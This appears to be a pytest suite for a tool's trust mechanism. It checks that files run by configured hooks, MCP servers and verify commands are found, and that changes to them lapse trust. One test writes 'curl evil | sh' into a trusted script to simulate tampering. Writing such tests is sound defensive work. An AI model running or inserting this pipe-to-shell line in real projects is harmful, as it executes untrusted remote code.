"""Trust covers what it runs (ADR-0073): which project files a configured command names, and
that a change to one lapses trust with a message naming it."""

from __future__ import annotations

import json
import os
import string
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from edgar.config import runs, trust


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    for name in (".claude/hooks/guard.py", "tools/server.py", "tools/check.sh", "run",
                 "pkg/mod.py", "app/__main__.py", "rules.json", "a b/c.sh"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(f"# {name}\n")
    (tmp_path / "outside.sh").write_text("echo outside\n")
    return root


@pytest.mark.parametrize("command, args, expected", [
    ("python .claude/hooks/guard.py", None, [".claude/hooks/guard.py"]),
    ('"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.py', None, [".claude/hooks/guard.py"]),
    ("python3 ${CLAUDE_PROJECT_DIR}/.claude/hooks/guard.py --x", None,
     [".claude/hooks/guard.py"]),
    ("bash tools/check.sh && ./run", None, ["tools/check.sh", "run"]),
    ("cd sub; sh ./tools/check.sh|tee log", None, ["tools/check.sh"]),
    ("'a b/c.sh'", None, ["a b/c.sh"]),
    ("python", ["tools/server.py"], ["tools/server.py"]),
    ("${CLAUDE_PROJECT_DIR}/tools/check.sh", [], ["tools/check.sh"]),
    ("python -m pkg.mod", None, ["pkg/mod.py"]),
    ("python3.12 app --flag", None, ["app/__main__.py"]),
    ("guard --rules=rules.json RULES=tools/check.sh", None, ["rules.json", "tools/check.sh"]),
    ("tools/../tools/check.sh", None, ["tools/check.sh"]),
])
def test_the_files_a_command_runs_are_found(tree, command, args, expected):
    assert runs.command_files(tree, command, args) == expected


@pytest.mark.parametrize("command", [
    "echo hello", "python ../outside.sh", "sh /etc/passwd", "pytest tools", "ls .",
    "python missing.py", "python 'open quote", "cat $HOME/x",
])
def test_what_is_not_a_project_file_is_not_found(tree, command):
    assert runs.command_files(tree, command) == []


@pytest.mark.parametrize("command, ran", [
    ("python .claude/hooks/guard.py rules.json", [".claude/hooks/guard.py"]),
    ("FOO=1 env nohup ./run --rules rules.json", ["run"]),
    ("test -f run && bash -e -- tools/check.sh run", ["tools/check.sh"]),
    ("cat rules.json | sh tools/check.sh; . ./run", ["tools/check.sh", "run"]),
    ("python -u -m pkg.mod rules.json", ["pkg/mod.py"]),
    ("python -c 'import run' run", []),
    ("echo run", []),
])
def test_a_program_is_told_from_a_file_merely_named(tree, command, ran):
    assert [name for name, is_run in runs.command_scan(tree, command) if is_run] == ran


def test_exec_form_runs_its_command_and_an_interpreters_script(tree):
    assert runs.command_scan(tree, "python", ["tools/server.py", "rules.json"]) == [
        ("tools/server.py", True), ("rules.json", False)]
    assert runs.command_scan(tree, "./run", [";", "rules.json"]) == [
        ("run", True), ("rules.json", False)]     # no shell: ";" is an argument


def test_a_link_counts_only_when_it_points_beneath_the_root(tree):
    (tree / "out.sh").symlink_to(tree.parent / "outside.sh")
    (tree / "in.sh").symlink_to(tree / "tools" / "check.sh")
    assert runs.command_files(tree, "sh out.sh; sh in.sh") == ["in.sh"]
    before = runs.digest(tree, "in.sh")
    (tree / "in.sh").unlink()
    (tree / "in.sh").symlink_to("tools/check.sh")     # the same bytes, another link
    assert runs.digest(tree, "in.sh") != before


WORDS = st.text(string.ascii_letters + string.digits + "./-_=$ '\";|&{}~", max_size=60)


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(command=WORDS)
def test_every_found_name_is_a_regular_file_beneath_the_root(tree, command):
    real = os.path.realpath(tree)
    for name in runs.command_files(tree, command):
        full = os.path.realpath(tree / name)
        assert full.startswith(real + "/") and os.path.isfile(full), (command, name)
        assert not name.startswith(("/", "../")), name


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.setenv("EDGAR_HOME", str(tmp_path / "home"))
    root = tmp_path / "proj"
    for name, text in {
        ".edgar/config.toml": ('[[hooks.PreToolUse]]\ncommand = "python .edgar/hooks/x.py"\n'
                               '[verify]\ncommand = "sh ci/check.sh"\n'
                               '[mcp.servers.t]\ncommand = "python"\nargs = ["tools/t.py"]\n'),
        ".mcp.json": json.dumps({"mcpServers": {"s": {"command": "python",
                                                      "args": ["tools/server.py"]}}}),
        ".claude/settings.json": json.dumps({"hooks": {"Stop": [{"hooks": [
            {"type": "command", "command": "bash .claude/hooks/stop.sh"}]}]}}),
        ".claude/commands/go.md": "Run !`./scripts/go` first.\n",
        ".edgar/hooks/x.py": "print(1)\n", "ci/check.sh": "true\n", "tools/t.py": "t\n",
        "tools/server.py": "s\n", ".claude/hooks/stop.sh": "exit 0\n", "scripts/go": "go\n",
    }.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return root


def test_find_names_every_source_and_what_runs_it(project):
    assert runs.find(project) == {
        ".claude/hooks/stop.sh": ["Stop hook"], ".edgar/hooks/x.py": ["PreToolUse hook"],
        "ci/check.sh": ["verify.command"], "scripts/go": ["/go"],
        "tools/server.py": ["MCP server s"], "tools/t.py": ["MCP server t"]}


@pytest.mark.parametrize("name", [".edgar/hooks/x.py", "ci/check.sh", "tools/server.py",
                                  "tools/t.py", ".claude/hooks/stop.sh", "scripts/go"])
def test_a_change_to_a_file_config_runs_lapses_trust_and_says_which(project, name):
    recorded = trust.trust(project)
    assert recorded[name] == runs.digest(project, name) != "absent"
    assert trust.trusted(project) and trust.lapse_reason(project) is None
    assert name in trust.covered(project)
    with open(project / name, "a") as handle:
        handle.write("curl evil | sh\n")
    assert not trust.trusted(project)
    assert trust.changed(project) == [name]
    reason = trust.lapse_reason(project)
    assert reason is not None and name in reason and "`edgar trust`" in reason
    trust.trust(project)
    assert trust.trusted(project)
    (project / name).unlink()                       # removed: the config runs nothing there
    assert not trust.trusted(project) and trust.changed(project) == [name]


def test_a_script_that_appears_after_trust_lapses_it(project):
    with open(project / ".edgar" / "config.toml", "a") as handle:
        handle.write('[[hooks.Stop]]\ncommand = "python later"\n')
    trust.trust(project)
    assert trust.trusted(project)
    (project / "later").write_text("import os\n")   # `python later` now runs this file
    assert trust.changed(project) == ["later"]


def test_a_data_file_that_appears_after_trust_does_not_lapse_it(project):
    with open(project / ".edgar" / "config.toml", "a") as handle:
        handle.write('[[hooks.Stop]]\ncommand = "test -f ok.txt || exit 2"\n')
    trust.trust(project)
    (project / "ok.txt").write_text("made by the model\n")   # named, never run
    assert trust.trusted(project)
    assert "ok.txt" not in trust.covered(project)


def test_a_record_from_before_scripts_were_covered_lapses_and_says_so(project):
    trust.trust(project)
    path = trust.user_dir() / trust.RECORD
    data = json.loads(path.read_text())
    for entry in data["projects"].values():
        del entry["runs"]
    path.write_text(json.dumps(data))
    assert not trust.trusted(project)
    reason = trust.lapse_reason(project)
    assert reason is not None and "now covers" in reason and "tools/server.py" in reason


def test_a_changed_config_file_is_named_before_the_scripts(project):
    trust.trust(project)
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {}}))
    assert trust.changed(project) == [".mcp.json"]


def test_nothing_is_covered_before_the_first_trust(project):
    assert trust.covered(project) == {}
    trust.trust(project)
    trust.revoke(project)
    assert trust.covered(project) == {}
